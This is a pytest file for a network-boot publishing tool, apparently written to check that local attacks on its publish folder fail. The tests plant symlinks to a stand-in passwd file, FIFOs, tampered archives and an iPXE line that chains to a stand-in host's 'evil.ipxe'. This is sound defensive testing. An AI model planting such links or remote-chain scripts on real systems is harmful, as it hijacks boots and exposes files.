"""Issue 16's local attacks on the publisher, replayed on a published example site: a host that
plants links, folders or files in its published folder reaches nothing outside it, its folder is
repaired by the next `doit`, and damaged build outputs are built again, never published."""
from __future__ import annotations

import json
import os
import re
import stat
import subprocess
import sys
from pathlib import Path

from tasks import inventory
from builtsite import HOSTS, a_built_site, kver, the_built_example  # noqa: F401  (fixtures)
from conftest import DoitRun, Site
from mounts import doit_over_tmpfs
from test_load_errors import run as doit_within  # ends with an error after 60 s instead of hanging

SECRET = 0o640  # publish.secret_mode of the example


def tree(site: Site) -> Path:
    return site.build / "publish"


def work(run: DoitRun) -> set[str]:
    """What a run did but lint (the built example was never linted: its first `doit` lints)."""
    return {t for t in run.ran if not t.startswith("lint:")}


def hosts_in(ran: set[str], stage: str) -> set[str]:
    return {t.split(":", 1)[1] for t in ran if t.startswith(stage + ":")}


def state_of(folder: Path) -> dict[str, tuple[int, int, int, int, bytes]]:
    """Everything about every entry under ``folder`` (links not followed): what an attack must not change."""
    out = {}
    for p in sorted([folder, *folder.rglob("*")]):
        st = p.lstat()
        data = p.read_bytes() if stat.S_ISREG(st.st_mode) else b""
        out[str(p.relative_to(folder))] = (st.st_mode, st.st_uid, st.st_ino, st.st_mtime_ns, data)
    return out


def an_outside_folder(tmp_path: Path) -> Path:
    """A folder outside the tree, as a host would aim a link at (another machine's /etc, say)."""
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "passwd").write_text("root:x:0:0:root:/root:/bin/sh\n")
    os.chmod(outside / "passwd", 0o644)
    return outside


def is_published(site: Site, host: str) -> None:
    """The host's published folder holds exactly its built files, as regular files with their modes."""
    folder = tree(site) / "hosts" / host
    assert stat.S_ISDIR(folder.lstat().st_mode)
    for name in ("boot.ipxe", "overlay.cpio"):
        p = folder / name
        st = p.lstat()
        assert stat.S_ISREG(st.st_mode), p
        assert p.read_bytes() == (site.build / "hosts" / host / name).read_bytes(), p
        assert stat.S_IMODE(st.st_mode) == (SECRET if name == "overlay.cpio" else 0o644), p


def test_previous_linked_to_another_host_with_a_planted_script_reaches_nothing(a_built_site: Site) -> None:
    """zephyr replaces previous/ by `previous -> ../boreas` and writes its own boot.ipxe: the
    next routine `doit` republishes zephyr, never writes through the link, and boreas is untouched."""
    folder = tree(a_built_site) / "hosts/zephyr"
    boreas = state_of(tree(a_built_site) / "hosts/boreas")
    (folder / "previous").mkdir(exist_ok=True)
    subprocess.run(["rm", "-rf", str(folder / "previous")], check=True)
    (folder / "previous").symlink_to("../boreas")
    (folder / "boot.ipxe").unlink()
    (folder / "boot.ipxe").write_text("#!ipxe\nchain http://192.0.2.66/evil.ipxe\n")
    run = a_built_site.doit()
    assert work(run) == {"publish:zephyr"}, run.stdout
    assert "build/publish/hosts/zephyr/previous: a symbolic link where a folder belongs: removed, not followed" in run.stderr
    assert state_of(tree(a_built_site) / "hosts/boreas") == boreas
    is_published(a_built_site, "zephyr")
    assert not (folder / "previous").is_symlink()
    # the planted script never becomes a generation the publisher keeps
    assert b"evil" not in b"".join(p.read_bytes() for p in folder.rglob("*") if p.is_file())
    assert a_built_site.doit().ran == set()


def test_previous_linked_outside_the_tree_gets_no_files_and_no_chmod(a_built_site: Site, tmp_path: Path) -> None:
    """`previous -> /outside/dir`, then an edit of the host: the publisher rotates the generation
    into a real previous/ folder; the outside folder gets no file, no setuid file, no chmod/chown."""
    outside = an_outside_folder(tmp_path)
    before = state_of(outside)
    folder = tree(a_built_site) / "hosts/zephyr"
    old = {n: (folder / n).read_bytes() for n in ("boot.ipxe", "overlay.cpio")}
    if (folder / "previous").exists():
        subprocess.run(["rm", "-rf", str(folder / "previous")], check=True)
    (folder / "previous").symlink_to(outside)
    a_built_site.edit("nodes/zephyr.yaml", "192.0.2.21/24", "192.0.2.41/24")
    run = a_built_site.doit()
    assert "publish:zephyr" in run.ran
    assert state_of(outside) == before
    assert not [p for p in tmp_path.rglob("*") if p.is_file() and p.stat().st_mode & (stat.S_ISUID | stat.S_ISGID)]
    prev = folder / "previous"
    assert stat.S_ISDIR(prev.lstat().st_mode)
    assert {n: (prev / n).read_bytes() for n in old} == old  # the generation it replaced, as published
    is_published(a_built_site, "zephyr")


def test_a_link_planted_alone_is_removed_by_the_next_noop(a_built_site: Site, tmp_path: Path) -> None:
    """Nothing changed in the build: the host's folder itself differs from what was published, so
    `doit` looks at it and removes what the publisher did not write (`leak -> /etc/passwd`)."""
    outside = an_outside_folder(tmp_path)
    folder = tree(a_built_site) / "hosts/boreas"
    (folder / "leak").symlink_to(outside / "passwd")
    (folder / "notes.txt").write_text("the host's own file\n")
    run = a_built_site.doit()
    assert work(run) == {"publish:boreas"}
    assert "build/publish/hosts/boreas/leak: a symbolic link the publisher did not write: removed, not followed" in run.stderr
    assert "build/publish/hosts/boreas/notes.txt: a file the publisher did not write: removed" in run.stderr
    assert sorted(p.name for p in folder.iterdir()) == ["boot.ipxe", "overlay.cpio"]
    assert (outside / "passwd").read_text().startswith("root:")


def test_boot_ipxe_made_a_folder_stops_no_other_host(a_built_site: Site) -> None:
    """A site-wide change is due for every host while zephyr's boot.ipxe is a folder: every host
    is published, zephyr's folder repaired, exit 0."""
    script = tree(a_built_site) / "hosts/zephyr/boot.ipxe"
    script.unlink()
    (script / "inside").mkdir(parents=True)
    (script / "inside/file").write_text("x\n")
    a_built_site.edit("site.yaml", "192.0.2.13]", "192.0.2.14]")
    run = a_built_site.doit()
    assert hosts_in(run.ran, "publish") == HOSTS
    assert "build/publish/hosts/zephyr/boot.ipxe: a folder where a file belongs" in run.stderr
    for h in HOSTS:
        is_published(a_built_site, h)


def test_a_fifo_in_place_of_a_script_neither_blocks_nor_stays(a_built_site: Site) -> None:
    """Opening a FIFO for reading would wait for a writer forever: the publisher never opens
    what is not a regular file."""
    script = tree(a_built_site) / "hosts/boreas/boot.ipxe"
    script.unlink()
    os.mkfifo(script)
    run = a_built_site.doit()
    assert work(run) == {"publish:boreas"}
    assert "build/publish/hosts/boreas/boot.ipxe: a special file where a file belongs" in run.stderr
    is_published(a_built_site, "boreas")


def test_a_fifo_or_a_link_in_place_of_a_built_file_neither_blocks_nor_is_followed(a_built_site: Site, tmp_path: Path) -> None:
    """Files cephboot wrote under build/ and reads again: the kernel's built.json (publish:<kver>),
    a rendered script (lint), a host layer (publish:hosts) and a base initrd (overlay packs a
    monolithic initrd from it).  A FIFO there is never opened blocking, a link never followed:
    one `cephboot:` line each (or the stamp taken as damage), and a plain doit recovers."""
    site = a_built_site
    stamp = site.build / "kernels" / kver() / "built.json"
    stamp.unlink()
    os.mkfifo(stamp)
    site.doit("forget", f"publish:{kver()}")
    done = doit_within(site, "-s", f"publish:{kver()}")
    out = done.stdout + done.stderr
    assert done.returncode != 0 and "Traceback" not in out, out
    assert f"cephboot: publish: kernel {kver()}: build/kernels/{kver()}/" in out and "is not what initrd" in out, out

    script = site.build / "hosts/zephyr/initramfs-tools/conf.d/cephboot"
    script.unlink()
    os.mkfifo(script)
    done = doit_within(site, "-s", "lint")
    out = done.stdout + done.stderr
    assert done.returncode != 0 and "Traceback" not in out, out
    assert f"cephboot: lint:rendered: {script.relative_to(site.root)}: a special file where a file belongs (not opened)" in out, out

    outside = an_outside_folder(tmp_path)
    before = state_of(outside)
    layer = site.build / "hosts/boreas/overlay.cpio"
    layer.unlink()
    layer.symlink_to(outside / "passwd")
    site.doit("forget", "publish:hosts")
    done = doit_within(site, "-s", "publish:hosts")
    out = done.stdout + done.stderr
    assert done.returncode != 0 and "Traceback" not in out, out
    assert "cephboot: publish: host boreas: build/hosts/boreas/overlay.cpio: damaged build output" in out, out

    base = site.build / "kernels" / kver() / "initrd.img"
    base.unlink()
    base.symlink_to(outside / "passwd")
    site.edit("site.yaml", "192.0.2.13]", "192.0.2.14]")  # every layer packed again, notus's monolithic one too
    site.doit("-s", "render")
    done = doit_within(site, "-s", "overlay")
    out = done.stdout + done.stderr
    assert done.returncode != 0 and "Traceback" not in out, out
    assert f"cephboot: overlay:hosts: notus: build/kernels/{kver()}/initrd.img: a symbolic link where a file belongs (not followed)" in out, out

    assert state_of(outside) == before
    assert site.doit().returncode == 0


def test_a_layer_made_a_link_to_a_password_file_is_replaced_not_followed(a_built_site: Site, tmp_path: Path) -> None:
    """overlay.cpio -> a passwd file (a stand-in for /etc/passwd: a failing test must not damage
    the machine's): the file keeps its bytes, mode and owner; the link is replaced by the layer."""
    outside = an_outside_folder(tmp_path)
    before = state_of(outside)
    layer = tree(a_built_site) / "hosts/notus/overlay.cpio"
    layer.unlink()
    layer.symlink_to(outside / "passwd")
    run = a_built_site.doit()
    assert work(run) == {"publish:notus"}
    assert "build/publish/hosts/notus/overlay.cpio: a symbolic link where a file belongs" in run.stderr
    assert state_of(outside) == before
    is_published(a_built_site, "notus")


def test_a_host_folder_made_a_link_is_replaced_by_a_real_one(a_built_site: Site, tmp_path: Path) -> None:
    outside = an_outside_folder(tmp_path)
    before = state_of(outside)
    folder = tree(a_built_site) / "hosts/zephyr"
    subprocess.run(["rm", "-rf", str(folder)], check=True)
    folder.symlink_to(outside)
    run = a_built_site.doit()
    assert "publish:zephyr" in run.ran
    assert "build/publish/hosts/zephyr: a symbolic link where a folder belongs: removed, not followed" in run.stderr
    assert state_of(outside) == before
    is_published(a_built_site, "zephyr")


def test_the_hosts_folder_made_a_link_is_replaced_and_every_host_republished(a_built_site: Site, tmp_path: Path) -> None:
    outside = an_outside_folder(tmp_path)
    (outside / "stranger").mkdir()  # publish:site removes host folders it does not know: not these
    before = state_of(outside)
    hosts = tree(a_built_site) / "hosts"
    subprocess.run(["rm", "-rf", str(hosts)], check=True)
    hosts.symlink_to(outside)
    run = a_built_site.doit()
    assert hosts_in(run.ran, "publish") == HOSTS
    assert "build/publish/hosts: a symbolic link where a folder belongs: removed, not followed" in run.stderr
    assert state_of(outside) == before
    for h in HOSTS:
        is_published(a_built_site, h)


def test_a_kernel_folder_made_a_link_is_replaced(a_built_site: Site, tmp_path: Path) -> None:
    outside = an_outside_folder(tmp_path)
    before = state_of(outside)
    folder = tree(a_built_site) / "kernels" / kver()
    subprocess.run(["rm", "-rf", str(folder)], check=True)
    folder.symlink_to(outside)
    run = a_built_site.doit()
    assert f"publish:{kver()}" in run.ran
    assert state_of(outside) == before
    assert stat.S_ISDIR(folder.lstat().st_mode)
    for name in ("vmlinuz", "initrd.img"):
        assert (folder / name).read_bytes() == (a_built_site.build / "kernels" / kver() / name).read_bytes()


def test_a_file_someone_else_made_gets_no_chmod_but_is_replaced(a_built_site: Site, tmp_path: Path) -> None:
    """The layer's name made a hard link to a file elsewhere with the right bytes, world-readable:
    the publisher replaces the entry rather than chmod a file it did not make."""
    layer = tree(a_built_site) / "hosts/zephyr/overlay.cpio"
    elsewhere = tmp_path / "elsewhere"  # the same file system as the tree
    elsewhere.write_bytes(layer.read_bytes())
    elsewhere.chmod(0o644)
    layer.unlink()
    os.link(elsewhere, layer)
    run = a_built_site.doit()
    assert work(run) == {"publish:zephyr"}
    assert stat.S_IMODE(elsewhere.stat().st_mode) == 0o644
    assert layer.stat().st_ino != elsewhere.stat().st_ino
    is_published(a_built_site, "zephyr")


def test_a_layer_rewritten_with_its_size_and_mtime_kept_is_published_again(a_built_site: Site) -> None:
    """The host rewrites its layer in place, same size, and sets the old mtime back: the
    publisher's record holds the inode and ctime too, so the next `doit` puts the built layer back."""
    layer = tree(a_built_site) / "hosts/boreas/overlay.cpio"
    st = layer.stat()
    data = layer.read_bytes()
    with open(layer, "r+b") as f:
        f.seek(len(data) // 2)
        f.write(b"X" * 16)
    os.utime(layer, ns=(st.st_atime_ns, st.st_mtime_ns))
    assert layer.stat().st_size == st.st_size and layer.read_bytes() != data
    run = a_built_site.doit()
    assert work(run) == {"publish:boreas"}
    assert layer.read_bytes() == data


def test_a_truncated_host_layer_is_packed_again_and_only_then_published(a_built_site: Site) -> None:
    built = a_built_site.build / "hosts/zephyr/overlay.cpio"
    good = built.read_bytes()
    with open(built, "r+b") as f:
        f.truncate(len(good) // 2)
    run = a_built_site.doit()
    assert work(run) == {"overlay:zephyr"}, run.stdout  # the same bytes again: nothing to publish
    assert built.read_bytes() == good
    assert (tree(a_built_site) / "hosts/zephyr/overlay.cpio").read_bytes() == good


def test_a_damaged_layer_with_its_size_and_mtime_kept_is_refused_then_rebuilt(a_built_site: Site) -> None:
    """A layer damaged without a trace in its stat (its trailer zeroed, mtime set back) is found
    when publishing: refused and removed, so the next `doit` packs and publishes it."""
    built = a_built_site.build / "hosts/zephyr/overlay.cpio"
    good = built.read_bytes()
    published = (tree(a_built_site) / "hosts/zephyr/overlay.cpio").read_bytes()
    st = built.stat()
    at = good.rindex(b"TRAILER!!!")
    built.write_bytes(good[:at] + b"\0" * (len(good) - at))
    os.utime(built, ns=(st.st_atime_ns, st.st_mtime_ns))
    a_built_site.doit("forget", "publish:hosts")
    refused = a_built_site.doit(check=False)
    assert refused.returncode != 0
    out = refused.stdout + refused.stderr
    assert "cephboot: publish: host zephyr: build/hosts/zephyr/overlay.cpio: damaged build output (not a complete cpio archive)" in out, out
    assert "Traceback" not in out
    assert (tree(a_built_site) / "hosts/zephyr/overlay.cpio").read_bytes() == published  # never published
    again = a_built_site.doit()
    assert "overlay:zephyr" in again.ran
    assert built.read_bytes() == good and (tree(a_built_site) / "hosts/zephyr/overlay.cpio").read_bytes() == good


def test_a_base_initrd_changed_since_it_was_built_is_never_published(a_built_site: Site) -> None:
    """Same size and mtime, other bytes: the digest recorded when it was built tells."""
    base = a_built_site.build / "kernels" / kver() / "initrd.img"
    published = (tree(a_built_site) / "kernels" / kver() / "initrd.img").read_bytes()
    st = base.stat()
    with open(base, "r+b") as f:
        f.seek(st.st_size - 64)
        f.write(b"\0" * 64)
    os.utime(base, ns=(st.st_atime_ns, st.st_mtime_ns))
    a_built_site.doit("forget", f"publish:{kver()}")
    run = a_built_site.doit(f"publish:{kver()}", check=False)
    out = run.stdout + run.stderr
    assert run.returncode != 0 and "Traceback" not in out
    assert f"cephboot: publish: kernel {kver()}: build/kernels/{kver()}/initrd.img is not what initrd:{kver()} built" in out, out
    assert (tree(a_built_site) / "kernels" / kver() / "initrd.img").read_bytes() == published
    assert not base.exists()  # the next doit builds it again


def test_full_and_read_only_disks_name_the_path(a_built_site: Site) -> None:
    """ENOSPC in publish:kernel and publish:hosts, EROFS in publish:site: a `cephboot:` line with the path."""
    k = tree(a_built_site) / "kernels"
    a_built_site.doit("forget", f"publish:{kver()}")
    full = doit_over_tmpfs(a_built_site, k, "size=64k", f"publish:{kver()}")
    out = full.stdout + full.stderr
    assert full.returncode != 0 and "Traceback" not in out
    assert f"cephboot: publish: kernel {kver()}: build/publish/kernels/{kver()}/" in out and "No space left on device" in out, out

    a_built_site.edit("site.yaml", "192.0.2.13]", "192.0.2.14]")
    notus = tree(a_built_site) / "hosts/notus"  # monolithic: its 20 MB initrd.img does not fit
    full = doit_over_tmpfs(a_built_site, notus, "size=1m", "publish:hosts")
    out = full.stdout + full.stderr
    assert full.returncode != 0 and "Traceback" not in out
    assert "cephboot: publish: host notus: build/publish/hosts/notus/initrd.img: No space left on device" in out, out
    assert {h for h in hosts_in(full.ran, "publish") if h != kver()} == HOSTS - {"notus"}

    a_built_site.doit("forget", "publish:site")
    ro = doit_over_tmpfs(a_built_site, tree(a_built_site) / "ipxe", "ro,size=64k", "-s", "publish:site")  # -s: not its task_dep
    out = ro.stdout + ro.stderr
    assert ro.returncode != 0 and "Traceback" not in out
    assert "cephboot: publish: site: build/publish/ipxe" in out and "Read-only file system" in out, out
    assert a_built_site.doit().returncode == 0


def test_a_rotated_key_leaves_no_generation_that_holds_the_old_one(a_built_site: Site) -> None:
    """A new keyring for zephyr (the old key revoked on the cluster): previous/ would still serve
    the old key, and could not boot with it, so the publisher drops it instead of keeping it."""
    from tasks.examplekeys import cephx_secret

    a_built_site.edit("nodes/zephyr.yaml", "192.0.2.21/24", "192.0.2.41/24")
    a_built_site.doit()  # a previous generation, with the current key
    folder = tree(a_built_site) / "hosts/zephyr"
    assert (folder / "previous/overlay.cpio").exists()
    keyring = a_built_site.hosts / "keys/zephyr.keyring"
    old = keyring.read_text().split("key = ")[1].strip().encode()
    keyring.write_text(f"[client.zephyr]\n\tkey = {cephx_secret()}\n")
    run = a_built_site.doit()
    assert "publish:zephyr" in run.ran
    assert "build/publish/hosts/zephyr/previous: the host's key changed" in run.stderr
    assert not (folder / "previous").exists()
    assert not [p for p in tree(a_built_site).rglob("*") if p.is_file() and old in p.read_bytes()]
    is_published(a_built_site, "zephyr")


# --- records and local files ------------------------------------------------------------

def test_damaged_records_redo_the_stage_with_one_line_and_no_traceback(a_built_site: Site) -> None:
    record = a_built_site.build / "state/render.json"
    for damage in ('{"hosts": {}}', "garbage\x00", '{"config": 3, "hosts": [], "outs": {}}', '["not", "a", "record"]',
                   '{"config": "x", "hosts": {"zephyr": 1}, "outs": {}}'):
        record.write_text(damage)
        run = a_built_site.doit()
        assert "Traceback" not in run.stderr, damage
        assert hosts_in(run.ran, "render") == HOSTS, damage
        lines = [line for line in run.stderr.splitlines() if "damaged record" in line]
        assert len(lines) == 1, run.stderr
        assert re.fullmatch(r"cephboot: build/state/render\.json: damaged record \([^()]+\): every host of render is redone", lines[0]), lines
        assert json.loads(record.read_text())["config"], damage
    assert a_built_site.doit().ran == set()


def test_a_damaged_cache_is_built_again_and_an_old_pickle_never_loaded(a_built_site: Site) -> None:
    cache = a_built_site.build / ".inventory.json"  # plain JSON: nothing in it can name code to run
    assert cache.exists()
    cache.write_bytes(b'{"format": 1, "hosts": {"zephyr": ')  # cut off mid-write
    old = a_built_site.build / ".inventory.pickle"
    old.write_bytes(b"cno_such_module_of_cephboot\nSite\n.")  # the old format: a pickle of a class from a module that is gone
    run = a_built_site.doit()
    assert "Traceback" not in run.stderr and work(run) == set()
    assert json.loads(cache.read_text())["format"] == inventory.CACHE_FORMAT and not old.exists()


def doit_with_umask(site: Site, umask: int, *args: str) -> DoitRun:
    cmd = [sys.executable, "-m", "doit", "-f", str(site.dodo), "-d", str(site.root), *args]
    p = subprocess.run(cmd, capture_output=True, text=True, preexec_fn=lambda: os.umask(umask), timeout=900)
    return DoitRun(p.returncode, p.stdout, p.stderr)


def test_build_is_owner_only_whatever_the_umask(the_example_site: Site) -> None:
    run = doit_with_umask(the_example_site, 0o000, "render")
    assert run.returncode == 0, run.stderr
    build = the_example_site.build
    assert stat.S_IMODE(build.stat().st_mode) == 0o700
    for p in build.rglob("*"):
        mode = stat.S_IMODE(p.lstat().st_mode)
        assert not mode & 0o022, f"{p}: {mode:o}"  # nobody else can write anything
        if p.is_dir() or p.name.startswith((".inventory", "doit.sqlite3")) or "state" in p.parts:
            assert not mode & 0o077, f"{p}: {mode:o}"  # folders, caches and records: owner only


def test_a_looser_build_folder_is_tightened_with_a_message(the_example_site: Site) -> None:
    the_example_site.build.mkdir()
    os.chmod(the_example_site.build, 0o777)
    run = the_example_site.doit("render")
    assert "cephboot: build: was mode 0777 (others could read or write it); now 0700" in run.stderr
    assert stat.S_IMODE(the_example_site.build.stat().st_mode) == 0o700


def test_a_build_folder_someone_else_owns_is_refused(the_example_site: Site) -> None:
    """Another local user made build/ (and could plant a cache in it): doit loads nothing from it."""
    the_example_site.build.mkdir()
    os.chown(the_example_site.build, 65534, 65534)
    run = the_example_site.doit("render", check=False)
    assert run.returncode != 0 and "Traceback" not in run.stderr
    assert f"cephboot: {the_example_site.build}: owned by uid 65534, not by the user running doit" in run.stderr
    assert list(the_example_site.build.iterdir()) == []


def test_leftovers_of_killed_runs_are_removed_by_the_next_run(a_built_site: Site) -> None:
    from tasks.fileio import NODE

    dead = "2147483646"  # no such process
    kernels = a_built_site.build / "kernels" / kver()
    left = [kernels / f".initrd.img.tmp{dead}", kernels / f".initrd.img.tmp.{NODE}.{dead}", a_built_site.build / f".x.tmp.{NODE}.{dead}",
            a_built_site.build / "state" / f".render.json.tmp.{NODE}.{dead}",
            a_built_site.build / "hosts/zephyr/rootfs/etc" / f".fstab.tmp.{NODE}.{dead}"]  # a killed render's
    for p in left:
        p.write_bytes(b"part of something\n")
    mkinitramfs = a_built_site.build / "tmp" / f"{NODE}.{dead}" / "mkinitramfs_AbC123"
    (mkinitramfs / "usr/lib").mkdir(parents=True)
    live = kernels / f".initrd.img.tmp.{NODE}.{os.getpid()}"  # a run still going: kept
    live.write_bytes(b"in progress\n")
    assert work(a_built_site.doit()) == set()
    assert not [p for p in left if p.exists()]
    assert not mkinitramfs.parent.exists()
    assert live.exists()
    assert list((a_built_site.build / "tmp").iterdir()) == []  # a run's own folder goes when it ends
